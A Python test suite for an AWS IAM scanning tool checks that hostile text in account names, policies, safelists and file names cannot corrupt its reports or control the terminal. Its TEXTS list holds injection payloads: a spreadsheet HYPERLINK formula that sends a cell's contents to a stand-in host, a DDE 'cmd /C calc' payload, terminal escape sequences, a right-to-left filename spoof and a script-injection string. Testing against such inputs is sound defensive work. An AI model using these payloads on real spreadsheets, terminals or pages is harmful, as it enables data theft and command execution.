"""Text that others chose, in every field that AWS, a safelist or a file can hold, through every command.

The files stay valid and tell the truth, and the terminal is not controlled by it.
"""

import csv
import io
import json
import os
import re
import zipfile
from collections.abc import Iterable
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scanner.account_files import ACCOUNT_COLUMNS, OWNER_COLUMNS
from scanner.errors import FaultsError
from scanner.record import SafelistText
from scanner.safelist.entries import parse
from scanner.text import first_invisible, looks_like_formula
from tests.aws_endpoint import (
    Fault,
    Refuse,
    SimulatedGroup,
    SimulatedOrganization,
    SimulatedPolicy,
    empty_organization,
    nth,
    running,
)
from tests.program import Scanned, calling, program, scan

pytestmark = pytest.mark.usefixtures("workplace", "hurried")

TEXTS = {
    "formula": "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"x\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1",
    "at": "@SUM(1)",
    "full width": "＝1＋1",  # noqa: RUF001
    "tab": "\t=1+1",
    "carriage return": "\r\n=1+1",
    "NUL": "\0=1",
    "no character": "a\ufffeb\uffffc",
    "lone surrogates": "a\ud800b\udfffc",
    "right to left": "\u202egpj.exe\u2066\u200f",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f",
    "lines": "one\nerror: two\u2028three\x85four",
    "escape of OOXML": "a_x000D_b_x0041_",
    "markup": "</t></is><script>alert(1)</script>&amp;]]>",
    "markup of rich": "[red]x[/red][link=http://192.0.2.1]:skull:",
    "separators": "a; b,\"c\";'d'\tz",
    "format": "{0} %s %(x)s ${y}",
    "long": "x" * 40_000,
    "wide": "漢字😀" * 50,
}  # fmt: skip
MARKUP = TEXTS["markup of rich"]
NO_XML = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
SGR = re.compile(r"\x1b\[[0-9;]*m")  # the program's own colours


READS = '{"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Action": "s3:Get*", "Resource": "*"}}'


def for_iam(text: str) -> str:
    """What an XML answer can hold of it."""
    return NO_XML.sub("?", text)


def world_of(*texts: str) -> SimulatedOrganization:
    """For each text an account of that name in an OU of that name, whose user has it wherever IAM lets others write."""
    world = empty_organization()
    for text in texts:
        account = world.add_account(text, world.add_ou(text).id)
        fit = for_iam(text)
        policy = f"arn:aws:iam::{account.id}:policy/{fit}"
        account.policies.append(SimulatedPolicy(name=fit, document=READS))
        account.groups.append(SimulatedGroup(name=fit, attached=(policy,)))
        boundary = f"arn:aws:iam::aws:policy/{fit}"
        account.add_user(
            f"{fit}-user", path=f"/{fit}/", groups=(fit,), attached=(policy,), boundary=boundary, tags=((fit, fit),)
        )
    return world


def refusals(world: SimulatedOrganization) -> list[Fault]:
    """Further accounts, of which each is refused in one of these texts; a code is text too."""
    faults = []
    for text in TEXTS.values():
        account = world.add_account(f"refused: {text}", state=text)
        account.add_user("alice")
        fit = for_iam(text)
        faults.append(Fault("iam:ListUsers", Refuse(403, fit, fit), account=account.id))
    return faults


def harmless(*texts: str) -> None:
    """A terminal does nothing with it but show it."""
    for text in texts:
        assert [line for line in text.split("\n") if not line.isprintable()] == []
        text.encode("utf-8")


def sound(folder: Path) -> None:
    """Every file of a run or a report is what its name says, and no cell of a CSV is a formula."""
    for file in folder.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1
        assert [cell for row in rows for cell in row if looks_like_formula(cell)] == []
    for file in folder.glob("*.json"):
        json.loads(file.read_bytes().decode("ascii"))
    for file in folder.glob("*.ocsf.jsonl"):
        text = file.read_bytes().decode("ascii")
        assert len([json.loads(line) for line in text.splitlines()]) == len(users_of(folder))
        assert re.search(r"\\ud[89ab]..(?!\\ud[c-f])|(?<!\\ud[89ab]..)\\ud[c-f]", text) is None, "half a character"
    for file in folder.glob("*.xlsx"):
        with zipfile.ZipFile(file) as archive:
            for name in archive.namelist():
                ET.fromstring(archive.read(name))
        book = openpyxl.load_workbook(file)
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        formulas = [cell for cell in cells if cell.data_type == "f"]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d", "f"}
        assert {cell.parent.title for cell in formulas} <= {"Summary"}  # its own: they count the decisions
        assert [cell.value for cell in formulas if not str(cell.value).startswith("=COUNTIF(Review!")] == []


def users_of(folder: Path) -> list[dict[str, object]]:
    found: list[dict[str, object]] = json.loads((folder / "iam-users.json").read_bytes())
    return found


ALL = ("--format", "xlsx", "--format", "csv", "--format", "json", "--format", "ocsf")


# --- what AWS can hold -----------------------------------------------------------------------------------------------


@pytest.fixture
def done() -> Scanned:
    world = world_of(*TEXTS.values())
    faults = refusals(world)
    with running(world, faults) as endpoint:
        return scan(endpoint, *ALL, "--debug")


def test_a_scan_and_all_that_reads_its_run(done: Scanned, monkeypatch: pytest.MonkeyPatch) -> None:
    assert done.exit_code == 4
    harmless(done.out, done.err)
    sound(done.folder)
    found = users_of(done.folder)
    assert sorted(str(row["account_name"]) for row in found) == sorted(TEXTS.values())
    assert sorted(str(row["ou_path"]) for row in found) == sorted(f"Root/{text}" for text in TEXTS.values())
    assert sorted(str(row["user_name"]) for row in found) == sorted(f"{for_iam(text)}-user" for text in TEXTS.values())
    assert sorted(str(row["groups"]) for row in found) == sorted(str([for_iam(text)]) for text in TEXTS.values())
    refused = {row["account_name"]: row for row in done.accounts.values() if row["outcome"] == "FAILED"}
    assert len(refused) == len(TEXTS)

    again = program("report", done.folder, *ALL, "--output", "again")
    (rendered,) = Path("again").iterdir()
    sound(rendered)
    checked = program("verify", done.folder)
    assert checked.exit_code == 0
    harmless(again.out, again.err, checked.out, checked.err)

    monkeypatch.setenv("FORCE_COLOR", "1")
    coloured = program("report", done.folder, "--output", "coloured")
    assert "\x1b[" in coloured.out
    harmless(SGR.sub("", coloured.out))


def test_the_tree_of_accounts(monkeypatch: pytest.MonkeyPatch) -> None:
    with running(world_of(*TEXTS.values())) as endpoint, calling(endpoint):
        tree = program("accounts", "--debug")
        listed = program("accounts", "--json")
        unknown = program("accounts", "--ou", "Root/=HYPERLINK(", "--debug")
        monkeypatch.setenv("FORCE_COLOR", "1")
        coloured = program("accounts")
    harmless(tree.out, tree.err, listed.out, unknown.out, unknown.err, SGR.sub("", coloured.out))
    assert {account["account_name"] for account in listed.document["accounts"]} == {"management", *TEXTS.values()}
    assert unknown.exit_code == 2


def test_what_aws_says_of_a_scan_that_cannot_start_or_get_on() -> None:
    """Codes and messages of AWS Organizations, whose JSON can hold anything; in tracebacks and the log too."""
    everything = " ".join(TEXTS.values())
    refusal = Refuse(400, everything, everything)
    with running(world_of(), [Fault("organizations:ListRoots", refusal)]) as endpoint:
        no_start = scan(endpoint, "--debug")
    with running(world_of(MARKUP), [Fault("organizations:ListAccounts", refusal, when=nth(1))]) as endpoint:
        broken_off = scan(endpoint, "--debug")
    assert (no_start.exit_code, broken_off.exit_code) == (5, 4)
    assert "Traceback" in no_start.err
    assert MARKUP in no_start.err
    assert MARKUP in broken_off.out  # in the message; in tables, long names are folded
    harmless(no_start.out, no_start.err, broken_off.out, broken_off.err)


@settings(max_examples=4, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(st.characters(), min_size=1, max_size=20), min_size=1, max_size=4))
def test_any_text_at_all(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    output = tmp_path_factory.mktemp("any")
    with running(world_of(*texts)) as endpoint:
        done = scan(endpoint, "--output", output, "--format", "json", "--format", "ocsf")
    (folder,) = output.iterdir()
    harmless(done.out, done.err)
    sound(folder)
    assert sorted(str(row["account_name"]) for row in users_of(folder)) == sorted(texts)


# --- what files can hold ---------------------------------------------------------------------------------------------

FILE = os.fsdecode(b"\xff\x1b[2J\n=1.yaml")  # a name that the file system holds and UTF-8 does not


def quoted(text: str) -> str:
    """A scalar of YAML; what lies beyond U+FFFF stands as it is, as YAML has no pairs of surrogates."""
    return json.dumps(text, ensure_ascii="😀" not in text)


ENCODABLE = {name: text for name, text in TEXTS.items() if name != "lone surrogates"}
# What a CSV that people write may hold: what is seen as it is read.
PLAIN = {
    name: text
    for name, text in ENCODABLE.items()
    if text == text.strip() and "\n" not in text and first_invisible(text) is None
}


def test_owners_accounts_and_reasons() -> None:
    """The files that come beside a safelist, and what a settings file says of exclusions."""
    world = world_of("member")
    known = dict(zip(PLAIN, world_ids(world, len(PLAIN)), strict=True))
    rows = [(known[name], text, f"Root/{text.replace('/', '|')}") for name, text in PLAIN.items()]
    write_csv("accounts.csv", ACCOUNT_COLUMNS, rows)
    write_csv("owners.csv", OWNER_COLUMNS, [(known[name], text) for name, text in PLAIN.items()])
    reasons = ", ".join(
        f'{{account: "{known[name]}", reason: {quoted(text)}}}' for name, text in PLAIN.items() if name != "minus"
    )
    Path("settings.yaml").write_text(f"exclude_account: [{reasons}]\n", encoding="utf-8")
    with running(world) as endpoint:
        options = ("--accounts-file", "accounts.csv", "--account-owners", "owners.csv", "--config", "settings.yaml")
        done = scan(endpoint, *options, *ALL, "--debug")
        with calling(endpoint):
            tree = program("accounts", "--accounts-file", "accounts.csv", "--config", "settings.yaml")
    assert (done.exit_code, tree.exit_code) == (4, 0)
    harmless(done.out, done.err, tree.out, tree.err)
    sound(done.folder)
    assert done.record.header.account_owners == {known[name]: text for name, text in PLAIN.items()}


def test_accounts_that_are_refused() -> None:
    texts = [text for name, text in ENCODABLE.items() if name not in PLAIN]
    rows = [(f"{number:012}", text, f"Root/{text}") for number, text in enumerate(texts)]
    write_csv("accounts.csv", ACCOUNT_COLUMNS, rows)
    with running(world_of()) as endpoint:
        done = scan(endpoint, "--accounts-file", "accounts.csv", "--debug")
    assert (done.exit_code, endpoint.calls) == (2, [])
    assert len([line for line in done.err.splitlines() if line.startswith("error: ")]) >= len(texts)
    harmless(done.out, done.err)


def world_ids(world: SimulatedOrganization, count: int) -> list[str]:
    return [f"{number:012}" for number in range(1, count + 1) if f"{number:012}" not in world.accounts]


def write_csv(name: str, header: tuple[str, ...], rows: Iterable[tuple[str, ...]]) -> None:
    with Path(name).open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([header, *rows])


def entries_of(text: str) -> str:
    return (
        f"  - {{user: alice, owner: {quoted(text)}, reason: {quoted(text)}, expires_on: 2020-01-01}}\n"
        f"  - {{user: bob, approved_by: {quoted(text)}, ticket: {quoted(text)}}}\n"
    )


def unit_of(text: str) -> str:
    """The path of an OU of this name; in a path of a safelist no name is empty."""
    return f"Root/{text.replace('//', '/')}"


def is_taken(text: str) -> bool:
    try:
        parse([SafelistText(path="a.yaml", text=f"version: 1\nglobal:\n{entries_of(text)}")])
    except FaultsError:
        return False
    return True


def test_safelists() -> None:
    """What a safelist may hold is shown harmless; what it may not is refused, and that is shown harmless too."""
    taken = [text for text in TEXTS.values() if is_taken(text)]
    assert len(TEXTS) / 2 < len(taken) < len(TEXTS)
    units = "".join(f"  ? {quoted(unit_of(text))}\n  : [alice]\n" for text in taken)
    Path(FILE).write_text(f"version: 1\nglobal:\n{''.join(map(entries_of, taken))}ous:\n{units}", encoding="utf-8")
    world = world_of("member")
    world.management.add_user("bob")
    who = ("--account", "123456789012", "--ou", unit_of(MARKUP), "--safelist", FILE, "--debug")
    ended = [
        program("safelist", "check", FILE, "--debug"),
        program("safelist", "check", FILE, "--json", "--debug"),
        program("safelist", "explain", "--user", MARKUP, *who),
        program("safelist", "explain", "--user", "bob", *who),
    ]
    with running(world) as endpoint:
        done = scan(endpoint, *ALL, "--debug", safelist=FILE)
    harmless(*(each for end in (*ended, done) for each in (end.out, end.err)))
    assert {end.exit_code for end in ended} == {0}
    assert (done.exit_code, done.user("bob")["basis"]) == (3, "SAFELISTED")
    sound(done.folder)
    assert program("verify", done.folder).exit_code == 0


def test_safelists_that_are_refused() -> None:
    keys = "".join(f"? {quoted(text)}\n: [{{user: {quoted(text)}}}]\n" for text in TEXTS.values())
    entries = "".join(map(entries_of, TEXTS.values()))
    Path(FILE).write_text(f"version: 1\n{keys}global:\n{entries}", encoding="utf-8")
    told = program("safelist", "check", FILE, "--debug")
    listed = program("safelist", "check", FILE, "--json")
    assert (told.exit_code, listed.exit_code) == (2, 2)
    harmless(told.out, told.err, listed.out, listed.err)
    assert "Traceback" in told.err
    faults = listed.document["error"]["faults"]
    assert len([fault for fault in faults if "is unknown" in fault["problem"]]) == len(TEXTS)
    shown = [line for line in told.err.splitlines() if line.startswith("error: ")]
    assert len(shown) == len(faults)  # one line each, though the name of the file holds a line feed
